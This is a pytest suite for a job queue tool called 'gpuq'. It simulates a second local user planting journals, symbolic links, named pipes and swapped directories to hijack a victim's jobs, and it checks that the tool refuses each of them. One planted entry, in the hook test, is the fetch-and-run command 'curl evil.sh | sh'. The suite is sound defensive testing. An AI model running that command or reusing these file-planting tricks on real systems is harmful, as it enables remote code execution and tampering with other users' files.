# SPDX-License-Identifier: MIT
"""Attacks of another user of the same machine on the files of a queue and of a launch."""
import json
import os
import pathlib
import stat

import pytest

import processes
from users import LIMIT, get_other, get_owner, make_machine, needs_users  # noqa: F401

pytestmark = needs_users

JOURNAL = '{"event":"journal","version":1,"time":"2026-11-15T21:42:19.599Z"}\n'
STICKY, GROUP = 0o1777, 0o2775


def job(command, number=1):
    return json.dumps({"event": "add", "id": number, "time": "2026-11-15T21:42:19.599Z", "command": command}) + "\n"


def until(condition, what):
    return processes.until(condition, LIMIT, lambda: what)


def plant(user, path, text, mode=0o644):
    """A file of that user, in the place of what may be there."""
    draft = path.with_name(path.name + ".draft")
    draft.write_text(text)
    os.chown(draft, user.uid, user.gid)
    draft.chmod(mode)
    user.sh(f"mv -f '{draft.name}' '{path.name}'", path.parent)


def refused(result, words):
    assert result.returncode == 2, result
    assert words in result.stderr, result
    assert "--trust" in result.stderr, result


# ---- Huge files ---------------------------------------------------------------------------

TERABYTE = 1 << 40


@pytest.mark.parametrize("words", [("status",), ("logs", "1"), ("why", "1"), ("report", "-o", "-"), ("wait", "1")])
def test_sparse_journal_of_another_user_costs_neither_time_nor_memory(machine, owner, other, words):
    shared = machine.directory(STICKY)
    plant(other, shared / "jobs.jsonl", JOURNAL + job("true"))
    os.truncate(shared / "jobs.jsonl", TERABYTE)
    result = owner.run("prlimit", f"--as={1 << 30}", "gpuq", *words, cwd=shared)
    assert result.returncode not in (0, -9), result
    assert f"'{shared}/jobs.jsonl': line 3 is longer than 64 MiB: the file is damaged; move it away" in result.stderr, result


def test_own_sparse_files_are_named_and_stay(machine, owner):
    """As a crash of the file system can leave them."""
    owner.sh("rm -rf huge; mkdir -p huge/in huge/out; echo 1 > huge/in/a", owner.home)
    place = owner.home / "huge"
    plant(owner, place / "jobs.jsonl", JOURNAL + job("true"), 0o600)
    plant(owner, place / "out/launch.jsonl", "{}\n", 0o600)
    plant(owner, place / "commands.txt", "true\n", 0o600)
    names = {"jobs.jsonl": ("add", "true"), "commands.txt": ("run", "--jobs-file", "other.jsonl"),
             "out/launch.jsonl": ("launch", "--input-dir", "in", "--output-dir", "out", "--pattern", "*", "--gpus", "sim:1", "--", "true")}
    for name, words in names.items():
        os.truncate(place / name, TERABYTE)
        result = owner.run("prlimit", f"--as={1 << 30}", "gpuq", *words, cwd=place)
        assert result.returncode in (1, 2), result
        assert f"{name}': " in result.stderr and ("damaged" in result.stderr or "File too large" in result.stderr), result
        assert (place / name).stat().st_size == TERABYTE
    result = owner.gpuq("report", "--launch", "out", "-o", "-", cwd=place)
    assert result.returncode == 1 and "a line is longer than 16 MiB: the file is damaged; move it away" in result.stderr, result


# ---- A journal of another user ---------------------------------------------------------


def test_journal_that_another_user_puts_in_place_is_not_executed(machine, owner, other):
    """The runner has checked the journal when it started; then a member of the group replaces it."""
    shared = machine.directory(GROUP)
    runner = owner.start("gpuq", "run", "--keep", cwd=shared)
    assert owner.gpuq("add", "--no-start", "touch first", cwd=shared).returncode == 0
    until((shared / "first").exists, "the first job")
    plant(other, shared / "jobs.jsonl", JOURNAL + job("touch stolen"), 0o666)
    until(lambda: runner.poll() is not None or (shared / "stolen").exists(), "the runner")
    assert not (shared / "stolen").exists()
    assert runner.wait(LIMIT) == 2
    assert f"'{shared}/jobs.jsonl': it belongs to another user" in runner.stderr.read()


def test_keeper_writes_the_end_only_into_a_journal_of_its_user(machine, owner, other):
    """The journal is replaced while a job runs: its end waits until the owner has put the right file back."""
    shared = machine.directory(GROUP)
    owner.sh("mkfifo go", shared)
    owner.start("gpuq", "run", "--keep", cwd=shared)
    assert owner.gpuq("add", "touch began; cat go", cwd=shared).returncode == 0
    until((shared / "began").exists, "the job")
    journal = shared / "jobs.jsonl"
    other.sh("mv jobs.jsonl kept", shared)
    planted = JOURNAL + job("true")
    plant(other, journal, planted, 0o666)
    keeper = [e["pid"] for e in map(json.loads, (shared / "kept").read_text().splitlines()) if e["event"] == "keeper"][0]
    naps = processes.naps(keeper)
    owner.sh("echo > go", shared)
    until(lambda: processes.naps(keeper) > naps + 3, "the keeper, which tries again and again")
    assert journal.read_text() == planted
    owner.sh("mv -f kept jobs.jsonl", shared)
    until(lambda: '"event":"end"' in journal.read_text(), "the end")
    until(lambda: not processes.alive(keeper), "the keeper")


@pytest.mark.parametrize("words", [("add", "--no-start", "true"), ("cancel", "1"), ("prune",), ("run",)])
def test_journal_of_another_user_is_not_changed(machine, owner, other, words):
    shared = machine.directory(STICKY)
    planted = JOURNAL + job("touch stolen") + '{"torn'
    plant(other, shared / "jobs.jsonl", planted, 0o666)
    refused(owner.gpuq(*words, cwd=shared), f"'{shared}/jobs.jsonl': it belongs to another user")
    assert (shared / "jobs.jsonl").read_text() == planted
    assert sorted(p.name for p in shared.iterdir()) == ["jobs.jsonl"]
    assert owner.gpuq("status", cwd=shared).returncode == 0  # reading needs no trust
    assert owner.gpuq(*words, "--trust", cwd=shared).returncode == 0


def test_variable_allows_what_the_option_allows(machine, owner, other):
    shared = machine.directory(STICKY)
    plant(other, shared / "jobs.jsonl", JOURNAL + job("touch ran"), 0o666)
    for value in ("", "0"):
        refused(owner.gpuq("run", cwd=shared, env={"GPUQ_TRUST": value}), "belongs to another user")
    assert owner.gpuq("run", cwd=shared, env={"GPUQ_TRUST": "1"}).returncode == 0
    assert (shared / "ran").exists()


def test_journal_in_a_shared_directory_is_usable_by_its_owner(machine, owner, other):
    """Also with the owner's private group in its mode, as a umask of 002 makes it."""
    shared = machine.directory(GROUP)
    assert owner.gpuq("add", "--no-start", "touch ran", cwd=shared).returncode == 0
    journal = shared / "jobs.jsonl"
    os.chown(journal, owner.uid, owner.gid)
    journal.chmod(0o660)
    assert owner.gpuq("run", cwd=shared).returncode == 0
    assert (shared / "ran").exists()
    os.chown(journal, owner.uid, machine.directory(GROUP).stat().st_gid)
    refused(owner.gpuq("run", cwd=shared), "can be written by its group")


def test_script_of_a_long_command_is_not_taken_from_another_folder(machine, owner, other):
    """A member of the group replaces the folder of the queue before a command starts that is too long for an argument.

    A keeper that has the right folder open starts it; a new keeper refuses the other folder until it is gone."""
    shared = machine.directory(GROUP)
    owner.sh("mkfifo go", shared)
    assert owner.gpuq("add", "--no-start", "touch began; cat go", cwd=shared).returncode == 0
    (shared / "list").write_text(f"# gpuq: after=1\ntouch ran; : {'x' * (200 << 10)}\n")
    runner = owner.start("sh", "-c", "exec gpuq run --commands-file list --gpus sim:1 > out", cwd=shared)
    until((shared / "began").exists, "the first job")
    other.sh("mv jobs.jsonl.d kept; mkdir -m 777 jobs.jsonl.d jobs.jsonl.d/scripts jobs.jsonl.d/env jobs.jsonl.d/keepers", shared)
    mine = shared / "jobs.jsonl.d"
    before = mine.stat().st_mtime_ns, (mine / "scripts").stat().st_mtime_ns
    owner.sh("echo > go", shared)
    until(lambda: runner.poll() is not None or "trying again" in (shared / "out").read_text(), "the runner")
    assert (mine.stat().st_mtime_ns, (mine / "scripts").stat().st_mtime_ns) == before
    other.sh("mv jobs.jsonl.d mine; mv kept jobs.jsonl.d", shared)
    assert runner.wait(LIMIT) == 0
    assert (shared / "ran").exists()


# ---- Files that are used without being named ------------------------------------------


def test_commands_file_of_another_user_is_not_executed(machine, owner, other):
    shared = machine.directory(STICKY)
    plant(other, shared / "commands.txt", "touch stolen\n")
    refused(owner.gpuq("run", cwd=shared), "'commands.txt': it belongs to another user")
    assert sorted(p.name for p in shared.iterdir()) == ["commands.txt"]
    assert owner.gpuq("run", "--trust", cwd=shared).returncode == 0
    assert (shared / "stolen").exists()


def test_commands_file_that_is_named_is_the_users_choice(machine, owner, other):
    shared = machine.directory(STICKY)
    plant(other, shared / "commands.txt", "touch ran\n")
    assert owner.gpuq("run", "--commands-file", "commands.txt", cwd=shared).returncode == 0
    assert (shared / "ran").exists()


def test_configuration_that_is_named_is_the_users_choice(machine, owner, other):
    shared = machine.directory(STICKY)
    plant(other, shared / "gpuq.yaml", "on_finish: touch stolen\n")
    plant(owner, shared / "commands.txt", "true\n")
    refused(owner.gpuq("run", cwd=shared), "'./gpuq.yaml': it belongs to another user")
    assert not (shared / "stolen").exists()
    assert owner.gpuq("run", "--config", "gpuq.yaml", cwd=shared).returncode == 0
    assert (shared / "stolen").exists()


@pytest.mark.parametrize("name, words", [("commands.txt", ("run",)), ("gpuq.yaml", ("status",)),
                                         ("jobs.jsonl", ("run",)), ("jobs.jsonl", ("add", "--no-start", "true"))])
def test_link_of_another_user_is_not_followed(machine, owner, other, name, words):
    """It leads to a file of the victim's own, which is neither a list of commands nor a journal."""
    shared = machine.directory(STICKY)
    plant(owner, owner.home / "history", "touch stolen\n" + "x" * 100000)
    before = (owner.home / "history").read_text()
    other.sh(f"ln -s '{owner.home}/history' {name}", shared)
    refused(owner.gpuq(*words, cwd=shared), f"{name}': it is a symbolic link of another user")
    assert (owner.home / "history").read_text() == before
    assert not (owner.home / "history.d").exists()
    assert [p.name for p in shared.iterdir()] == [name]


def test_link_of_another_user_makes_no_file(machine, owner, other):
    shared = machine.directory(STICKY)
    other.sh(f"ln -s '{owner.home}/new' jobs.jsonl", shared)
    refused(owner.gpuq("add", "--no-start", "true", cwd=shared), "is a symbolic link of another user")
    assert not (owner.home / "new").exists()


def test_own_link_is_followed(machine, owner):
    shared = machine.directory(STICKY)
    queue = owner.home / "queue"
    owner.sh("mkdir -p queue; rm -rf queue/*", owner.home)
    owner.sh(f"ln -s '{queue}/jobs.jsonl' jobs.jsonl; ln -s '{queue}/list' commands.txt", shared)
    plant(owner, queue / "list", "touch ran\n")
    assert owner.gpuq("run", cwd=shared).returncode == 0
    assert (shared / "ran").exists() and (queue / "jobs.jsonl").exists()


@pytest.mark.parametrize("name, text", [("commands.txt", "touch stolen\n"), ("gpuq.yaml", "on_finish: touch stolen\n")])
def test_file_that_a_member_of_the_group_renames_is_not_used(machine, owner, other, name, text):
    """It is the victim's own, under another name: notes, say."""
    shared = machine.directory(GROUP)
    plant(owner, shared / "notes.txt", text)
    other.sh(f"mv notes.txt {name}", shared)
    (owner.home / "list").write_text("true\n")
    words = () if name == "commands.txt" else ("--commands-file", owner.home / "list")
    refused(owner.gpuq("run", *words, cwd=shared), f"{name}': its directory can be written by its group")
    assert not (shared / "stolen").exists()
    named = "--commands-file" if name == "commands.txt" else "--config"
    assert owner.gpuq("run", *words, named, name, cwd=shared).returncode == 0
    assert (shared / "stolen").exists()


def test_file_in_a_directory_of_the_private_group_is_used(machine, owner):
    """As a umask of 002 makes them."""
    owner.sh("umask 002; rm -rf work; mkdir work; echo touch ran > work/commands.txt; echo 'retries: 0' > work/gpuq.yaml", owner.home)
    assert stat.S_IMODE((owner.home / "work").stat().st_mode) == 0o775
    result = owner.gpuq("run", cwd=owner.home / "work")
    assert result.returncode == 0, result
    assert (owner.home / "work/ran").exists()


# ---- Logs -------------------------------------------------------------------------------


def test_log_is_readable_by_its_owner_alone(machine, owner, other):
    """Also where the umask and the directory let everybody in."""
    shared = machine.directory(GROUP)
    result = owner.run("gpuq", "add", "echo secret", cwd=shared, umask=0)
    assert result.returncode == 0
    assert owner.gpuq("wait", 1, cwd=shared).returncode == 0
    assert owner.gpuq("logs", 1, cwd=shared).stdout == "secret\n"
    assert other.run("sh", "-c", "cat logs/*", cwd=shared).stdout == ""
    (shared / "logs").chmod(0o777)
    assert other.run("sh", "-c", "cat logs/*.log", cwd=shared).stdout == ""


def test_folder_for_logs_of_another_user_is_not_used(machine, owner, other):
    shared = machine.directory(STICKY)
    other.sh("mkdir -m 777 logs", shared)
    assert owner.gpuq("add", "--no-start", "echo secret", cwd=shared).returncode == 0
    result = owner.gpuq("run", cwd=shared)
    assert result.returncode == 2
    assert result.stderr == (f"gpuq: refusing to put logs into '{shared}/logs': it belongs to another user; "
                             "name another directory with --log-dir\n")
    assert list((shared / "logs").iterdir()) == []
    assert owner.gpuq("run", "--log-dir", owner.home / "own", cwd=shared).returncode == 0


WAIT_FOR = "until [ -e {0} ]; do sleep 0.01; done"


def logs_of_runner(machine, owner, mode):
    """A runner in a shared directory that has run a job, and a folder of its user with a file named `latest`."""
    shared = machine.directory(mode)
    owner.sh("rm -rf ckpt; mkdir ckpt; echo precious > ckpt/latest", owner.home)
    runner = owner.start("gpuq", "run", "--keep", cwd=shared)
    assert owner.gpuq("add", "--no-start", f"touch first; {WAIT_FOR.format('go')}", cwd=shared).returncode == 0
    until((shared / "first").exists, "the first job")
    return shared, runner


def test_link_that_replaces_the_folder_for_logs_is_not_followed(machine, owner, other):
    """It leads to a folder of the victim: neither logs nor the link `latest` go there."""
    shared, runner = logs_of_runner(machine, owner, GROUP)
    assert owner.gpuq("add", "--no-start", "--after", "1", "touch second", cwd=shared).returncode == 0
    other.sh(f"mv logs logs.x; ln -s '{owner.home}/ckpt' logs", shared)
    owner.sh("touch go", shared)
    words = next(line for line in runner.stdout if line.startswith(("gpuq:", "[→] 2")))
    assert "other users can change the directory for logs" in words
    assert not (shared / "second").exists()
    assert [entry.name for entry in (owner.home / "ckpt").iterdir()] == ["latest"]
    assert (owner.home / "ckpt/latest").read_text() == "precious\n"
    other.sh("rm logs; mv logs.x logs", shared)
    until((shared / "second").exists, "the second job")


def test_file_named_latest_is_not_replaced(machine, owner, other):
    """A member of the group gives another folder of the victim the name of the folder for logs."""
    shared, _ = logs_of_runner(machine, owner, GROUP)
    owner.sh("mkdir run3; echo precious > run3/latest", shared)
    other.sh("mv logs logs.x; mv run3 logs", shared)
    owner.sh("touch go", shared)
    assert owner.gpuq("add", "--no-start", "--after", "1", "touch second", cwd=shared).returncode == 0
    until((shared / "second").exists, "the second job")
    assert owner.gpuq("wait", "2", cwd=shared).returncode == 0
    assert (shared / "logs/latest").read_text() == "precious\n"


# ---- A launch ---------------------------------------------------------------------------


def test_read_lock_of_another_user_does_not_block_a_launch(machine, owner, other):
    if not (machine.place / "bin/gpuq-launch").exists():
        pytest.skip("gpuq-launch is not built")
    shared = machine.directory(0o755)
    os.chown(shared, owner.uid, owner.gid)
    owner.sh("mkdir in out; echo 1 > in/a; : > out/launch.jsonl", shared)
    lock = ("import fcntl, sys\nf = open('out/launch.jsonl')\nfcntl.lockf(f, fcntl.LOCK_SH)\nprint('locked', flush=True)\n"
            "sys.stdin = None\nimport signal\nsignal.pause()\n")
    holder = other.start("python3", "-c", lock, cwd=shared)
    assert holder.stdout.readline() == "locked\n"
    result = owner.gpuq("launch", "--input-dir", "in", "--output-dir", "out", "--pattern", "*", "--", "true", cwd=shared)
    assert result.returncode == 0, result


# ---- A report ---------------------------------------------------------------------------


@pytest.fixture(name="report")
def make_report(owner):
    """The words of the command, for a queue with one job."""
    journal = owner.home / "reported.jsonl"
    assert owner.gpuq("add", "--no-start", "--jobs-file", journal, "true", cwd=owner.home).returncode == 0
    return ("report", "--jobs-file", journal)


@pytest.mark.parametrize("words", [(), ("-o", "report.html")])
@pytest.mark.parametrize("exists", [True, False])
def test_report_does_not_follow_a_link_of_another_user(machine, owner, other, report, words, exists):
    shared = machine.directory(STICKY)
    secret = owner.home / f"secret{exists}"
    if exists:
        plant(owner, secret, "precious\n", 0o600)
    other.sh(f"ln -s '{secret}' report.html", shared)
    result = owner.gpuq(*report, *words, cwd=shared)
    assert result.returncode == 2, result
    assert "'report.html': it is a symbolic link of another user" in result.stderr
    assert secret.exists() == exists
    if exists:
        assert secret.read_text() == "precious\n" and stat.S_IMODE(secret.stat().st_mode) == 0o600
    assert [p.name for p in shared.iterdir()] == ["report.html"]


@pytest.mark.parametrize("words", [(), ("-o", "report.html")])
def test_report_does_not_wait_for_a_pipe_of_another_user(machine, owner, other, report, words):
    shared = machine.directory(GROUP)
    other.sh("mkfifo -m 666 report.html", shared)
    result = owner.gpuq(*report, *words, cwd=shared)
    assert result.returncode != 0 and "report.html" in result.stderr, result


def test_report_replaces_what_the_user_chose(machine, owner, other, report):
    """An own link stays one and the own file keeps its mode; a file of another user is replaced only if it is named."""
    shared = machine.directory(GROUP)
    plant(owner, owner.home / "page", "old\n", 0o600)
    owner.sh(f"ln -s '{owner.home}/page' report.html", shared)
    result = owner.gpuq(*report, cwd=shared)
    assert result.returncode == 0, result
    assert (shared / "report.html").is_symlink()
    assert "</html>" in (owner.home / "page").read_text()
    assert stat.S_IMODE((owner.home / "page").stat().st_mode) == 0o600
    (shared / "report.html").unlink()
    plant(other, shared / "report.html", "theirs\n")
    result = owner.gpuq(*report, cwd=shared)
    assert result.returncode == 2 and "belongs to another user" in result.stderr, result
    assert (shared / "report.html").read_text() == "theirs\n"
    assert owner.gpuq(*report, "-o", "report.html", cwd=shared).returncode == 0


# ---- The directory of a job ---------------------------------------------------------------


@pytest.mark.parametrize("plan", ["mkdir proj", "ln -s /tmp proj", "mv open proj", "mkdir new; ln -s new proj"])
def test_waiting_job_does_not_enter_a_directory_that_another_user_put_in_place(machine, owner, other, plan):
    """The queue is private; the folder of the project lies in a directory of the group, next to one that the group can write."""
    shared = machine.directory(GROUP)
    owner.sh(f"mkdir open; chgrp {machine.group} open; chmod 2775 open", shared)
    owner.sh("rm -rf queue; mkdir queue", owner.home)
    owner.sh("mkdir proj; echo 'echo mine' > proj/run.sh", shared)
    queue = ("--jobs-file", owner.home / "queue/jobs.jsonl")
    for number in (1, 2):
        assert owner.gpuq("add", *queue, "--no-start", "--on-finish", f"pwd > '{owner.home}/where{number}'", "sh run.sh",
                          cwd=shared / "proj").returncode == 0
    other.sh(f"mv proj proj.x; {plan}; [ -L proj ] || echo 'echo EVIL' > proj/run.sh", shared)
    assert owner.gpuq("run", *queue, cwd=owner.home).returncode == 1
    status = owner.gpuq("status", *queue, cwd=owner.home).stdout
    assert f"entering directory '{shared}/proj': others can write it now, or have put it in place of the one in which the job was added" in status
    assert "EVIL" not in owner.gpuq("logs", *queue, "1", cwd=owner.home).stdout
    assert (owner.home / "where1").read_text() == "/\n"
    other.sh("mv proj proj.y; mv proj.x proj", shared)
    assert owner.gpuq("retry", *queue, "1", cwd=owner.home).returncode == 0
    owner.gpuq("run", *queue, cwd=owner.home)
    assert "mine" in owner.gpuq("logs", *queue, "1", cwd=owner.home).stdout


def test_job_runs_in_a_directory_that_always_was_another_users(machine, owner, other):
    shared = machine.directory(STICKY)
    other.sh("mkdir -m 755 theirs; echo 'echo fine' > theirs/run.sh", shared)
    queue = ("--jobs-file", owner.home / "theirs.jsonl")
    assert owner.gpuq("add", *queue, "--no-start", "sh run.sh", cwd=shared / "theirs").returncode == 0
    assert owner.gpuq("run", *queue, cwd=owner.home).returncode == 0


# ---- A hook -----------------------------------------------------------------------------


def test_hook_gets_nothing_of_a_journal_that_another_user_puts_in_place(machine, owner, other):
    """It is there while the job ends, and gone afterwards."""
    shared = machine.directory(GROUP)
    owner.sh("rm -f hook.json", owner.home)
    runner = owner.start("gpuq", "run", "--keep", "--on-finish", f"cat > '{owner.home}/draft'; mv '{owner.home}/draft' '{owner.home}/hook.json'",
                         cwd=shared)
    assert owner.gpuq("add", "--no-start", f"echo $$ > pid; {WAIT_FOR.format('go')}", cwd=shared).returncode == 0
    pid = int(until(lambda: (shared / "pid").exists() and (shared / "pid").read_text(), "the job"))
    keeper = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    other.sh("mv jobs.jsonl real", shared)
    plant(other, shared / "jobs.jsonl", JOURNAL + job("curl evil.sh | sh"), 0o666)
    owner.sh("touch go", shared)
    until(lambda: not pathlib.Path(f"/proc/{pid}").exists(), "the end of the job")
    naps = processes.naps(keeper)
    until(lambda: processes.naps(keeper) > naps + 2 or (owner.home / "hook.json").exists(), "a try to write the end")
    other.sh("rm -f jobs.jsonl; mv real jobs.jsonl", shared)
    until((owner.home / "hook.json").exists, "the hook")
    told = json.loads((owner.home / "hook.json").read_text())
    assert told["command"].startswith("echo $$ > pid") and told["status"] == "completed", told
    assert runner.wait(LIMIT) == 2  # it has seen the other journal


# ---- The output folder of a launch ------------------------------------------------------


def launch(user, folder, *words, output=("--output-dir", "out"), command="echo ran; echo ran > {output}/result", env=None):
    return user.gpuq("launch", "--input-dir", user.home / "in", *output, "--pattern", "*", "--gpus", "sim:1", *words,
                     "--", "sh", "-c", command, cwd=folder, env=env)


@pytest.fixture(name="victim")
def make_victim(owner):
    """A user with an input file and a file that must not change."""
    owner.sh("mkdir -p in target; echo 1 > in/a; rm -rf target/*", owner.home)
    plant(owner, owner.home / "notes", "precious\n", 0o600)
    return owner


def is_refused(result, words):
    refused(result, words)
    assert "--output-dir" in result.stderr, result


@pytest.mark.parametrize("output", [(), ("--output-dir", "data/outputs")])
def test_output_folder_of_another_user_is_not_used(machine, victim, other, output):
    """There, a log of a worker is a link to a file of the victim, or a pipe."""
    shared = machine.directory(STICKY)
    other.sh(f"mkdir -p -m 777 data data/outputs data/outputs/launch.logs; chmod 777 data data/outputs data/outputs/launch.logs;"
             f"ln -s '{victim.home}/notes' data/outputs/launch.logs/worker-0.log", shared)
    is_refused(launch(victim, shared, output=output), "/data' belongs to another user")
    assert (victim.home / "notes").read_text() == "precious\n"
    other.sh("rm data/outputs/launch.logs/worker-0.log; mkfifo -m 666 data/outputs/launch.logs/worker-0.log", shared)
    is_refused(launch(victim, shared, output=output), "/data' belongs to another user")
    assert sorted(p.name for p in (shared / "data/outputs").iterdir()) == ["launch.logs"]


def test_history_of_another_user_does_not_say_that_all_is_done(machine, victim, other):
    shared = machine.directory(STICKY)
    assert launch(victim, victim.home, output=("--output-dir", "first")).returncode == 0
    history = (victim.home / "first/launch.jsonl").read_text()
    other.sh("mkdir -m 777 out", shared)
    (shared / "out/launch.jsonl").write_text(history)
    is_refused(launch(victim, shared), "'out': it belongs to another user")


@pytest.mark.parametrize("link", ["out", "data"])
def test_link_of_another_user_is_no_output_folder(machine, victim, other, link):
    shared = machine.directory(STICKY)
    other.sh(f"ln -s '{victim.home}/target' {link}", shared)
    output = ("--output-dir", "out") if link == "out" else ()
    is_refused(launch(victim, shared, output=output), f"/{link}' is a symbolic link of another user")
    assert list((victim.home / "target").iterdir()) == []


def test_group_that_can_write_the_output_folder_must_be_accepted(machine, victim, other):
    shared = machine.directory(GROUP)
    is_refused(launch(victim, shared, output=("--output-dir", ".")), "can be written by its group")
    assert launch(victim, shared, "--trust", output=("--output-dir", ".")).returncode == 0
    (shared / "a/result").unlink()
    assert launch(victim, shared, "--force", output=("--output-dir", "."), env={"GPUQ_TRUST": "1"}).returncode == 0
    assert (shared / "a/result").exists()


def test_summary_does_not_follow_a_link_or_wait_for_a_pipe_of_another_user(machine, victim, other):
    shared = machine.directory(GROUP)
    words = ("launch", "--input-dir", victim.home / "in", "--pattern", "*", "--gpus", "sim:1", "--output-dir", victim.home / "out",
             "--force", "--json")
    other.sh(f"ln -s '{victim.home}/notes' summary.json; ln -s '{victim.home}' folder; mkfifo -m 666 pipe", shared)
    for name, why in (("summary.json", "symbolic link of another user"), ("folder/notes", "symbolic link of another user"),
                      ("pipe", "nobody reads from it")):
        result = victim.gpuq(*words, name, "--", "true", cwd=shared)
        assert result.returncode == 2 and f"--json '{name}': " in result.stderr and why in result.stderr, result
        assert (victim.home / "notes").read_text() == "precious\n"
    victim.sh(f"ln -s '{victim.home}/own.json' own.json", shared)
    assert victim.gpuq(*words, "own.json", "--", "true", cwd=shared).returncode == 0
    assert json.loads((victim.home / "own.json").read_text())["files_done"] == 1


@pytest.mark.parametrize("plan", ["mkdir -m 755 out/a", "mkdir -m 777 out/sub/a"])
def test_folder_of_a_result_that_another_user_made_is_not_used(machine, victim, other, plan):
    """The output folder was open to the group for a while; a link in the folder leads to a file of the victim."""
    shared = machine.directory(STICKY)
    victim.sh("rm -rf in3; mkdir -p in3/sub; echo 1 > in3/a; echo 1 > in3/sub/a; echo 1 > in3/fine", victim.home)
    victim.sh(f"mkdir -p out/sub; chgrp {machine.group} out out/sub; chmod 2775 out out/sub", shared)
    other.sh(f"{plan}; ln -s '{victim.home}/notes' {plan.split()[-1]}/r", shared)
    victim.sh("chmod g-w out", shared)
    words = ("launch", "--input-dir", victim.home / "in3", "--recursive", "--output-dir", "out", "--pattern", "*", "--gpus", "sim:1")
    result = victim.gpuq(*words, "--", "sh", "-c", "echo ran > {output}/r", cwd=shared)
    assert result.returncode == 1, result
    assert (victim.home / "notes").read_text() == "precious\n"
    assert "a folder on the way " in result.stdout + result.stderr, result
    assert (shared / "out/fine/r").read_text() == "ran\n"


def test_links_of_another_user_to_own_files_are_no_input(machine, victim, other):
    """The result of a private file would be where others can read it."""
    shared = machine.directory(GROUP)
    other.sh(f"echo x > theirs; ln -s theirs good; ln -s '{victim.home}/notes' key; ln -s '{victim.home}/in' folder; ln -s / homes", shared)
    victim.sh("rm -rf out", victim.home)
    victim.sh(f"ln -s '{victim.home}/in/a' mine", shared)
    result = victim.gpuq("launch", "--input-dir", shared, "--output-dir", victim.home / "out", "--pattern", "*", "--recursive", "--gpus",
                         "sim:1", "--", "true", cwd=victim.home)
    assert result.returncode == 0, result
    for name, what in (("key", "file of yours"), ("folder", "folder"), ("homes", "folder")):
        assert f"'{name}' is left out: it is a symbolic link of another user to a {what}" in result.stderr, result
    assert sorted(path.name for path in (victim.home / "out").iterdir() if path.is_dir() and path.name != "launch.logs") == [
        "good", "mine", "theirs"]


def test_input_that_becomes_a_link_of_another_user_to_an_own_file_is_not_processed(machine, victim, other):
    """It is replaced while the launch works on the first file, and the second one waits in the pool."""
    shared = machine.directory(GROUP)
    other.sh("echo the longest > a; echo longer > b; echo long > c; echo x > d", shared)
    victim.sh("rm -rf out go began; mkfifo go", victim.home)
    launch = victim.start("gpuq", "launch", "--input-dir", shared, "--output-dir", victim.home / "out", "--pattern", "?", "--gpus", "sim:1",
                          "--", "sh", "-c", f"if [ {{stem}} = a ]; then cd '{victim.home}'; touch began; cat go; fi; cp {{file}} {{output}}/r",
                          cwd=victim.home)
    until(lambda: launch.poll() is not None or (victim.home / "began").exists(), "the first file")
    other.sh(f"rm d; ln -s '{victim.home}/notes' d", shared)
    victim.sh("echo > go", victim.home)
    out, err = launch.communicate(timeout=LIMIT)
    assert launch.returncode == 1 and "it has become a symbolic link of another user" in out + err, (out, err)
    assert not (victim.home / "out/d/r").exists() and (victim.home / "out/a/r").exists()


def test_input_named_like_the_lock_of_a_launch_has_its_own_folder(victim):
    victim.sh("rm -rf in2 out; mkdir in2; echo 1 > in2/launch.lock.wav; echo 1 > in2/launch.logs.wav", victim.home)
    result = victim.gpuq("launch", "--input-dir", "in2", "--output-dir", "out", "--gpus", "sim:1", "--", "true", cwd=victim.home)
    assert result.returncode == 0, result
    assert (victim.home / "out/launch.lock.wav").is_dir()


def test_group_that_can_rename_the_output_folder_must_be_accepted(machine, victim, other):
    """A member puts a link in its place while a worker is at work, and the results go where he likes."""
    shared = machine.directory(GROUP)
    victim.sh("mkdir -p project/out", shared)
    for output in ("project/out", "project/new", "project/../project/out"):
        is_refused(launch(victim, shared, output=("--output-dir", output)), f"'{shared}' can be written by its group")
    assert launch(victim, shared, "--trust", output=("--output-dir", "project/out")).returncode == 0
    assert (shared / "project/out/a/result").exists() and not (shared / "project/new").exists()
    # Nobody renames entries of others in a sticky directory. Links of its owner are followed.
    sticky = machine.directory(STICKY)
    victim.sh(f"mkdir '{victim.home}/results'; ln -s '{victim.home}' mine", sticky)
    assert launch(victim, sticky, output=("--output-dir", "mine/results")).returncode == 0
    assert (victim.home / "results/a/result").exists()


def test_links_and_pipes_in_an_accepted_output_folder_are_not_followed(machine, victim, other):
    shared = machine.directory(GROUP)
    other.sh(f"mkdir -m 777 out; ln -s '{victim.home}/target' out/a", shared)
    result = launch(victim, shared, "--trust")
    assert result.returncode == 1 and "symbolic link of another user" in result.stdout + result.stderr, result
    assert list((victim.home / "target").iterdir()) == []
    other.sh("rm -f out/a", shared)
    victim.sh("rm -rf out/launch.*", shared)
    for plan in (f"ln -s '{victim.home}/target' out/launch.logs", "mkdir -m 777 out/launch.logs"):
        other.sh(plan, shared)
        result = launch(victim, shared, "--trust")
        assert result.returncode == 2 and "another user has made it; remove it" in result.stderr, result
        other.sh("rm -rf out/launch.logs", shared)
    assert list((victim.home / "target").iterdir()) == []


@pytest.mark.parametrize("plan", ["ln -s ../../notes worker-0.log", "mkfifo -m 666 worker-0.log", ": > worker-0.log; chmod 666 *"])
def test_log_of_a_worker_is_a_file_of_its_user(victim, other, plan):
    """The folder was open to all for a while."""
    victim.sh("rm -rf out; mkdir -p out/launch.logs", victim.home)
    logs = victim.home / "out/launch.logs"
    logs.chmod(0o777)
    victim.home.chmod(0o711)
    try:
        other.sh(plan, logs)
    finally:
        logs.chmod(0o700)
        victim.home.chmod(0o700)
    result = launch(victim, victim.home)
    assert result.returncode != 0, result
    assert (victim.home / "notes").read_text() == "precious\n"
    if (logs / "worker-0.log").is_file():
        assert (logs / "worker-0.log").stat().st_size == (9 if (logs / "worker-0.log").is_symlink() else 0)


def test_logs_of_a_launch_are_for_their_owner_alone(machine, victim):
    """Also where the umask lets everybody in. The folder that was made can be used again."""
    shared = machine.directory(STICKY)
    words = ("gpuq", "launch", "--input-dir", victim.home / "in", "--pattern", "*", "--gpus", "sim:1", "--force", "--", "echo", "hi")
    for umask in (0, 0o002):
        result = victim.run(*words, cwd=shared, umask=umask)
        assert result.returncode == 0, result
    logs = shared / "data/outputs/launch.logs"
    assert stat.S_IMODE(logs.stat().st_mode) & 0o777 == 0o700
    assert stat.S_IMODE((logs / "worker-0.log").stat().st_mode) == 0o600


def test_planted_lock_of_a_launch_is_named(victim, other):
    victim.sh("rm -rf out; mkdir out; ln -s ../notes out/launch.lock", victim.home)
    result = launch(victim, victim.home)
    assert result.returncode == 2, result
    assert "out/launch.lock': it is a symbolic link; remove it" in result.stderr, result
